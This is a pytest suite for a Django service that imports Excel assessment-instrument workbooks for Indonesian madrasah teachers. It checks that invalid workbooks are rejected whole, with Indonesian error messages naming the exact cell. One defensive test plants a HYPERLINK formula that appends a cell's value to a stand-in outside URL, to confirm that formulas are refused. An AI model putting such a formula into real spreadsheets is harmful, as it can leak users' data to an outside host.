"""A bad instrument workbook is refused as a whole: every problem is named by sheet, row and column in
Indonesian, and nothing is written."""

from io import BytesIO

import pytest
from django.utils import translation
from openpyxl import load_workbook

from kompetensi.instruments import seed_data
from kompetensi.instruments.seed import instrument_create_from_spec
from kompetensi.instruments.selectors import instrument_version_spec
from kompetensi.instruments.services import instrument_import
from kompetensi.instruments.workbook import spec_workbook, template_workbook
from kompetensi.models import Instrument, InstrumentVersion, Item, PredikatBand, Section
from madrasah.errors import ApplicationError

MODELS = (Instrument, InstrumentVersion, Section, Item, PredikatBand)


@pytest.fixture(autouse=True)
def indonesian():
    with translation.override("id"):
        yield


@pytest.fixture
def year(madrasah):
    return madrasah.semesters.get().academic_year


def edited(data: bytes, edits: dict) -> bytes:
    """`data` with cells changed: {sheet: {"B5": value}}; a sheet mapped to None is removed."""
    workbook = load_workbook(BytesIO(data))
    for sheet, cells in edits.items():
        if cells is None:
            del workbook[sheet]
            continue
        for ref, value in cells.items():
            workbook[sheet][ref] = value
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def counts():
    return [model.objects.count() for model in MODELS]


def refused(madrasah, year, data) -> list[tuple]:
    before = counts()
    with pytest.raises(ApplicationError) as caught:
        instrument_import(madrasah=madrasah, academic_year=year, data=data)
    assert counts() == before
    return [(i.sheet, i.row, i.column, i.message) for i in caught.value.extra.get("issues", [])]


def pkg_workbook(madrasah, year) -> bytes:
    version = instrument_create_from_spec(madrasah=madrasah, academic_year=year, spec=seed_data.PKG_MAPEL_INSTRUMENT)
    return spec_workbook(instrument_version_spec(version=version))


# Template: Instrumen rows 2-12 (Kode … Predikat dibaca dari), Skala 1-4 on rows 2-5, one section on
# Bagian row 2, one item on Butir row 2 (indicator 2.5), bands 91/81/71/0 on Predikat rows 2-5.


def test_the_template_itself_imports(madrasah, year):
    version = instrument_import(madrasah=madrasah, academic_year=year, data=template_workbook())
    assert version.sections.get().items.get().indicator.competency.number == 2


def test_an_item_of_a_missing_section_is_named_at_its_row(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Butir": {"A3": 2, "B3": 1, "C3": "Butir baru"}}))
    assert issues == [("Butir", 3, "No. bagian", "Bagian 2 tidak ada di sheet Bagian.")]


def test_a_section_without_items_is_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Bagian": {"A3": 2, "B3": "Inti", "C3": 2}}))
    assert issues == [("Bagian", 3, "No. bagian", "Bagian ini tidak memiliki butir di sheet Butir.")]


def test_duplicate_item_numbers_in_a_section_are_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Butir": {"A3": 1, "B3": 1, "C3": "Lagi"}}))
    assert issues == [("Butir", 3, "No. butir", "Butir 1 pada bagian 1 muncul dua kali.")]


def test_overlapping_bands_are_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Predikat": {"A3": 91}}))
    assert issues == [
        ("Predikat", 3, "Batas bawah", "Rentang lain sudah dimulai dari 91: dua rentang akan tumpang tindih.")
    ]


def test_bands_leaving_a_gap_below_the_lowest_are_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Predikat": {"A5": 10}}))
    assert issues == [
        (
            "Predikat",
            None,
            "Batas bawah",
            "Rentang terendah harus dimulai dari 0: nilai di bawah 10 tidak akan mendapat predikat.",
        )
    ]


@pytest.mark.parametrize(
    ("weight", "message"), [(0, "Bobot harus di atas 0."), (-1, "Ketik angka dari 0 sampai 99.99.")]
)
def test_a_weight_of_zero_or_below_is_refused(madrasah, year, weight, message):
    issues = refused(madrasah, year, edited(template_workbook(), {"Bagian": {"C2": weight}}))
    assert issues == [("Bagian", 2, "Bobot", message)]


def test_a_scale_whose_labels_do_not_match_its_range_is_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Instrumen": {"B7": 5}}))
    assert issues == [
        ("Skala", None, "Nilai", "Skala 1–5 memerlukan satu baris untuk setiap nilai; yang belum ada: 5.")
    ]
    issues = refused(madrasah, year, edited(template_workbook(), {"Skala": {"A6": 7, "B6": "Istimewa"}}))
    assert issues == [("Skala", 6, "Nilai", "Nilai 7 di luar skala 1–4 (sheet Instrumen).")]


def test_an_indicator_code_that_does_not_exist_is_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Butir": {"D2": "2.9"}}))
    assert issues == [("Butir", 2, "Indikator PKG", "Kerangka kompetensi tidak memiliki indikator 2.9.")]


def test_an_indicator_typed_as_a_number_is_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Butir": {"D2": 1.1}}))
    assert [(s, r, c) for s, r, c, _m in issues] == [("Butir", 2, "Indikator PKG")]
    assert "1.10" in issues[0][3]


def test_an_unknown_kind_is_refused(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Instrumen": {"B4": "ekstrakurikuler"}}))
    assert [(s, r, c) for s, r, c, _m in issues] == [("Instrumen", 4, "Jenis")]
    assert issues[0][3].startswith("Pilih salah satu: perencanaan; pelaksanaan; penilaian; pkg")


@pytest.mark.parametrize("value", [1e400, "1e400", "banyak", float("nan"), True])
def test_hostile_numbers_are_refused_at_their_cell(madrasah, year, value):
    issues = refused(madrasah, year, edited(template_workbook(), {"Instrumen": {"B9": value}}))
    assert [(s, r, c) for s, r, c, _m in issues] == [("Instrumen", 9, "Tindak lanjut bila nilai di bawah")]


def test_a_formula_is_refused_at_its_cell(madrasah, year):
    data = edited(
        template_workbook(), {"Butir": {"C2": '=HYPERLINK("http://x.test/?"&A1,"klik")'}, "Predikat": {"A5": "=0*1"}}
    )
    issues = refused(madrasah, year, data)
    assert ("Butir", 2, "Teks butir", "Rumus tidak dibaca: ketik nilainya langsung.") in issues
    assert ("Predikat", 5, "Batas bawah", "Rumus tidak dibaca: ketik nilainya langsung.") in issues


def test_a_missing_sheet_is_named(madrasah, year):
    issues = refused(madrasah, year, edited(template_workbook(), {"Predikat": None}))
    assert issues == [("Predikat", None, None, "Sheet “Predikat” tidak ada.")]


def test_a_file_that_is_not_a_workbook_is_refused_whole(madrasah, year):
    before = counts()
    with pytest.raises(ApplicationError) as caught:
        instrument_import(madrasah=madrasah, academic_year=year, data=b"Nama,NIP\n")
    assert caught.value.field == "file"
    assert "bukan buku kerja Excel" in caught.value.message
    assert counts() == before


def test_a_pkg_section_names_an_existing_competency_and_its_own_indicators(madrasah, other_madrasah):
    year = madrasah.semesters.get().academic_year
    data = pkg_workbook(madrasah, year)
    other_year = other_madrasah.semesters.get().academic_year
    issues = refused(other_madrasah, other_year, edited(data, {"Bagian": {"D2": 15}, "Butir": {"D14": "2.1"}}))
    assert ("Bagian", 2, "Kompetensi (nomor)", "Kerangka kompetensi tidak memiliki kompetensi 15.") in issues
    assert (
        "Butir",
        14,
        "Indikator PKG",
        "Indikator 2.1 termasuk kompetensi 2, bukan kompetensi bagian ini (3).",
    ) in issues


def test_a_pkg_workbook_must_name_its_framework(madrasah, other_madrasah):
    year = madrasah.semesters.get().academic_year
    data = edited(pkg_workbook(madrasah, year), {"Instrumen": {"B5": None}})
    issues = refused(other_madrasah, other_madrasah.semesters.get().academic_year, data)
    assert issues == [
        ("Instrumen", 5, "Kerangka kompetensi", "Sebutkan kerangka kompetensi untuk jenis ini (misalnya pkg-mapel).")
    ]


def test_a_pkg_workbook_keeps_the_official_rule_and_scale(madrasah, other_madrasah):
    from kompetensi.instruments.workbook.layout import BAND_ROUNDING_WORDS, ITEM_SCORING_WORDS
    from kompetensi.models import BandRounding, ItemScoring

    year = madrasah.semesters.get().academic_year
    data = edited(
        pkg_workbook(madrasah, year),
        {
            "Instrumen": {
                "B7": 4,
                "B10": ITEM_SCORING_WORDS[ItemScoring.NORMALISED],
                "B12": BAND_ROUNDING_WORDS[BandRounding.WHOLE],
            }
        },
    )
    issues = refused(other_madrasah, other_madrasah.semesters.get().academic_year, data)
    official = "Instrumen PKG atau PKKM memakai aturan penilaian resmi: biarkan opsi ini pada nilai bawaannya."
    assert ("Instrumen", 10, "Poin butir", official) in issues
    assert ("Instrumen", 12, "Predikat dibaca dari", official) in issues
    assert ("Instrumen", 6, "Nilai terendah", "Instrumen jenis ini dinilai dari 0 sampai 2.") in issues
